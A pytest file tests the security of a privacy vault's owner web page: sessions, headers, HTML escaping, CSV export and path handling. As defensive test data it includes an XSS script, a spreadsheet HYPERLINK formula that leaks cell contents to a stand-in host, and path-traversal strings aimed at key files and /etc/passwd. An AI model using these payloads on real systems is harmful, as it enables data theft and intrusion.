"""The owner's page: what is on it, who sees it, and that a grantee's words stay words."""

import csv
import io
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
import tomlkit
from starlette.testclient import TestClient

from sarus_kernel.release import Label, PrivacyLoss, Provenance, Receipt, Release, Value
from sarus_kernel.vault.ledger.entries import Caps, Charged, Entry
from sarus_kernel.vault.ledger.ledger import Ledger
from sarus_kernel.vault.ledger.receipts import Signer
from sarus_kernel.vault.page.application import COOKIE, HEADERS, application
from sarus_kernel.vault.page.facts import Desk
from sarus_kernel.vault.page.login import MOST_FAILURES, Sessions, place_of
from sarus_kernel.vault.page.sheets import safe
from sarus_kernel.vault.refusals import Refused, note
from sarus_kernel.wire.codec import encode
from tests.privacy.ward import CATALOG
from tests.vault.open_vaults import CROSS, POLICY

TOKEN = "the owner's token, which is long enough"
HOSTILE = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://x/?"&A1)'
PATHS = ("/", "/releases", "/releases/1", "/refusals", "/data", "/twin")
OPEN = ("/login", "/style.css")
SHEETS = ("/releases.csv", "/refusals.csv", "/grantees.csv")
SECRET = 424242
"""A released value: it is on no page."""


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    """A vault with three releases (one with its receipt), one refusal and a twin."""
    (tmp_path / "private").mkdir()
    (tmp_path / "twin").mkdir()
    (tmp_path / "twin" / "twin.toml").write_text(
        'epsilon = 3.0\ndelta = 5e-07\npeople = 400\nwords = ["Shares are about right."]', "utf-8"
    )
    ledger = Ledger.create(tmp_path / "private" / "ledger.db")
    signer = Signer.open(tmp_path / "private" / "signing.key")
    first = charge(ledger, f"count of {HOSTILE}", 0.5)
    ledger.store(first.seq, encode(released(signer, first)))
    charge(ledger, FORMULA, 9.0)
    for number in range(3):
        charge(ledger, f"score {number}", 0.0, CROSS)
    refused = Refused("ann", HOSTILE, f"max of {HOSTILE}", HOSTILE, "2026-01-01", "2026-01-02")
    note(tmp_path / "private" / "refusals.db", refused)
    note(tmp_path / "private" / "refusals.db", Refused("ann", "r", FORMULA, "No.", "2026", "2026"))
    yield Desk(tmp_path, CATALOG, POLICY, ledger, signer.public_key())
    ledger.close()


def charge(ledger: Ledger, words: str, epsilon: float, operation: str = "") -> Charged:
    """One entry of Ann's."""
    loss = PrivacyLoss(epsilon, 0.0, epsilon * epsilon / 2)
    label = Provenance(Label.PRIVATE, loss).words() if epsilon else Label.WHITELISTED.value
    entry = Entry("research", "ann", words, words, label, loss, "2026-01-01T10:00:00", operation)
    charged = ledger.charge(entry, Caps(10.0, 1e-5))
    assert isinstance(charged, Charged)
    return charged


def released(signer: Signer, charged: Charged) -> Release:
    """A release of SECRET."""
    receipt = Receipt("q" * 64, "v" * 64, "label", 0.5, 0.0, POLICY.version, "old", charged.seq,
                      charged.head_hash, charged.when, "", "", HOSTILE, (HOSTILE,))  # fmt: skip
    value = Value("scalar", ("value",), ("integer",), ((SECRET,),))
    provenance = Provenance(Label.PRIVATE, PrivacyLoss(0.5), HOSTILE, (HOSTILE,))
    return Release(value, provenance, signer.signed(receipt))


@pytest.fixture
def stranger(desk: Desk) -> TestClient:
    """A browser that has not logged in."""
    made = application(desk, Sessions(TOKEN))
    return TestClient(made, base_url="http://127.0.0.1", follow_redirects=False)


@pytest.fixture
def owner(stranger: TestClient) -> TestClient:
    """A browser that has."""
    return inside(stranger)


def inside(browser: TestClient) -> TestClient:
    """The same browser, logged in, where its session's pages are."""
    reply = browser.post("/login", data={"token": TOKEN})
    assert reply.status_code == 303
    browser.base_url = f"http://127.0.0.1{reply.headers['location']}"
    return browser


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]


@pytest.mark.parametrize("path", [*PATHS, *SHEETS])
def test_without_a_session_there_is_only_the_door(stranger: TestClient, path: str) -> None:
    """No cookie, a made-up cookie, the token itself as a cookie: to the login."""
    for cookie in (None, "x", TOKEN):
        if cookie is not None:
            stranger.cookies.set(COOKIE, cookie.replace(" ", ""))
        reply = stranger.get(f"/{place_of(cookie or '')}{path}")
        assert (reply.status_code, reply.headers["location"]) == (303, "/login")
        assert reply.text == ""


def test_the_twin_beside_the_rows(desk: Desk, owner: TestClient) -> None:
    """The worst column first, each with its levels and nulls of both; of other rows, or where
    nobody has compared, only how to."""
    assert "twin" in owner.get("/twin").text and "--compare" in owner.get("/twin").text
    file = desk.directory / "private" / "twin_beside.toml"
    columns = [
        {"table": "person", "column": name, "distance": apart, "words": ["no value", HOSTILE],
         "real": [0.123, 0.877], "twin": [0.5, 0.5]}
        for name, apart in (("good", 0.1), ("bad", 0.9))
    ]  # fmt: skip
    known = {"format": 1, "data_version": CATALOG.version, "columns": columns}
    file.write_text(tomlkit.dumps(known), "utf-8")
    text = owner.get("/twin").text
    assert text.index("<code>bad</code>") < text.index("<code>good</code>")
    assert "0.90" in text and "87.7 %" in text and "12 %" in text and "50 %" in text
    tags = Tags(text)
    assert tags.tags.count("rect") == 8 and "script" not in tags.tags
    file.write_text(tomlkit.dumps(known | {"data_version": "another"}), "utf-8")
    assert "87.7 %" not in owner.get("/twin").text and "--compare" in owner.get("/twin").text


def test_a_wrong_token_opens_nothing(stranger: TestClient) -> None:
    """It says so, sets no cookie, and after some of them asks for patience."""
    forms = [{"token": "wrong"}, {}, {"token": ""}, {"token": TOKEN + "x"}, {"other": TOKEN},
             {"token": "x" * 5000}]  # fmt: skip
    for form in forms:
        reply = stranger.post("/login", data=form)
        assert reply.status_code == 401 and "set-cookie" not in reply.headers
        assert "not the owner" in reply.text
    for _ in range(MOST_FAILURES - len(forms)):
        reply = stranger.post("/login", data={"token": "wrong"})
    assert reply.status_code == 429
    reply = stranger.post("/login", data={"token": TOKEN})
    assert reply.status_code == 429 and 0 < int(reply.headers["retry-after"]) <= 60


def test_the_cookie_is_for_this_site_s_requests_alone(stranger: TestClient) -> None:
    """No script reads it, no other site's page sends it; logging out ends it."""
    set_cookie = stranger.post("/login", data={"token": TOKEN}).headers["set-cookie"]
    assert re.search(r"HttpOnly; Path=/[0-9a-f]{32}; SameSite=strict$", set_cookie)
    assert TOKEN not in set_cookie
    secret = stranger.cookies[COOKIE]
    stranger.base_url = f"http://127.0.0.1/{place_of(secret)}/"
    assert stranger.get("/").status_code == 200
    assert stranger.post("/logout").status_code == 303
    stranger.cookies.set(COOKIE, secret)
    assert stranger.get("/").status_code == 303


def test_a_cookie_without_its_place_reads_nothing(stranger: TestClient) -> None:
    """A program on another port, which browsers show cookies to, is never below that path; and
    would not know where to go with what it has."""
    inside(stranger)
    secret, other = stranger.cookies[COOKIE], Sessions(TOKEN).open(TOKEN)
    stranger.base_url = "http://127.0.0.1"
    for path in ("/", "/releases", "/x/", f"/{secret}/", f"/{place_of(other or '')}/releases"):
        reply = stranger.get(path, headers={"cookie": f"{COOKIE}={secret}"})
        assert reply.status_code in (303, 307) and not reply.text
    reply = stranger.get(f"/{place_of(secret)}/", headers={"cookie": f"{COOKIE}={secret}"})
    assert reply.status_code == 200


@pytest.mark.parametrize("path", PATHS)
def test_a_grantee_s_words_stay_words(owner: TestClient, path: str) -> None:
    """A question with a script in it is text; a page has no scripts, styles or handlers at all."""
    reply = owner.get(path)
    assert reply.status_code == 200
    found = Tags(reply.text)
    assert not {"script", "style", "iframe", "img", "object", "base"} & set(found.tags)
    assert not [name for name in found.attributes if name.startswith("on") or name == "style"]
    assert HOSTILE not in reply.text
    if path not in ("/data", "/twin"):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in reply.text


@pytest.mark.parametrize("path", [*PATHS, *SHEETS, *OPEN, "/releases/99"])
def test_every_reply_is_guarded_and_has_no_value(owner: TestClient, path: str) -> None:
    """Headers on each of them; no released value on any."""
    reply = owner.get(f"http://127.0.0.1{path}" if path in OPEN else path)
    assert reply.status_code == (404 if path == "/releases/99" else 200)
    assert {name: reply.headers[name] for name in HEADERS} == HEADERS
    assert "script-src" not in HEADERS["Content-Security-Policy"]
    assert str(SECRET) not in reply.text


def test_what_an_owner_wants_to_know_is_on_it(owner: TestClient, desk: Desk) -> None:
    """Budgets, grantees, what is near a limit, the twin, receipts, the key."""
    page = owner.get("/").text
    for words in ("of 10", "ann", "ben", "Shares are about right.", "3 of 3", "near its limit",
                  "chain of 5 entries is whole", desk.key):  # fmt: skip
        assert words in page, words
    assert page.count("near its limit") == 1
    receipt = owner.get("/releases/1").text
    assert "q" * 64 in receipt and "(an earlier version)" in receipt
    assert "nothing was released" in owner.get("/releases/2").text
    data = owner.get("/data").text
    assert all(table.name in data for table in CATALOG)


def test_a_changed_ledger_is_said_first(owner: TestClient, desk: Desk) -> None:
    """Who alters the file does not go unnoticed."""
    with desk.ledger._transaction() as db:
        db.execute("DROP TRIGGER entries_update")
        db.execute("UPDATE entries SET words = 'nothing' WHERE seq = 1")
    assert "The ledger is not sound" in owner.get("/").text


def test_a_spreadsheet_computes_nothing(owner: TestClient) -> None:
    """What looks like a formula comes with an apostrophe; the rest is as it was."""
    reply = owner.get("/releases.csv")
    assert reply.headers["content-disposition"] == 'attachment; filename="releases.csv"'
    rows = list(csv.DictReader(io.StringIO(reply.content.decode("utf-8-sig"))))
    assert [row["question"] for row in rows][-2:] == [f"'{FORMULA}", f"count of {HOSTILE}"]
    refused = owner.get("/refusals.csv").content.decode("utf-8-sig")
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"' in refused
    for start in ("=", "+", "-", "@", "\t=", " =", "\r=", "|", "\uff1d", "\uff20"):
        assert safe(f"{start}1").startswith("'")
    assert (safe(0.5), safe(None), safe("a=b")) == ("0.5", "", "a=b")


@pytest.mark.parametrize("path", [
    "/../private/signing.key", "/..%2Fprivate%2Fsigning.key", "/%2e%2e/private/owner.token",
    "/private/signing.key", "/..%2f..%2fetc%2fpasswd.csv", "/twin/twin.toml", "/ask", "/welcome",
    "/static/../login.html", "/releases/../../x", "/none.csv", "/releases/-1", "/releases/x",
])  # fmt: skip
def test_no_path_leads_outside(owner: TestClient, path: str) -> None:
    """Only the listed pages are there; the grantees' door is not among them."""
    reply = owner.get(path)
    if reply.status_code == 307:  # out of this session's place: another's, and to the login
        reply = owner.get(reply.headers["location"])
        assert reply.status_code == 303 and reply.headers["location"] == "/login"
    assert reply.status_code in (303, 404, 405)
    assert "PRIVATE KEY" not in reply.text and TOKEN not in reply.text


def test_nothing_can_be_changed(owner: TestClient) -> None:
    """Every method but GET is refused, on every page."""
    for path in (*PATHS, *SHEETS):
        for method in ("POST", "PUT", "DELETE", "PATCH"):
            assert owner.request(method, path).status_code == 405


def test_only_this_machine_s_names_are_answered(owner: TestClient) -> None:
    """A stranger's page whose name was made to lead here gets nothing."""
    for host in ("evil.example", "127.0.0.1.evil.example", ""):
        assert owner.get("/", headers={"host": host}).status_code == 400


def test_long_lists_are_turned_page_by_page(owner: TestClient, desk: Desk) -> None:
    """Also with numbers that are none."""
    for number in range(60):
        charge(desk.ledger, f"q{number}", 0.001)
    first, second = owner.get("/releases").text, owner.get("/releases?page=2").text
    assert "page 1 of 2" in first and ">q59<" in first and ">q5<" not in first
    assert "page 2 of 2" in second and ">q5<" in second
    for strange in ("0", "-1", "x", "9" * 30, "²", "99"):
        assert owner.get("/releases", params={"page": strange}).status_code == 200


def test_a_bug_says_nothing_of_itself(
    stranger: TestClient, desk: Desk, caplog: pytest.LogCaptureFixture
) -> None:
    """What went wrong is in the vault's log, which only the owner reads."""
    inside(stranger)
    (desk.directory / "twin" / "twin.toml").write_text("words = [patient 17", "utf-8")
    reply = stranger.get("/")
    assert reply.status_code == 500 and "patient" not in reply.text
    assert "owner's page failed" in caplog.text
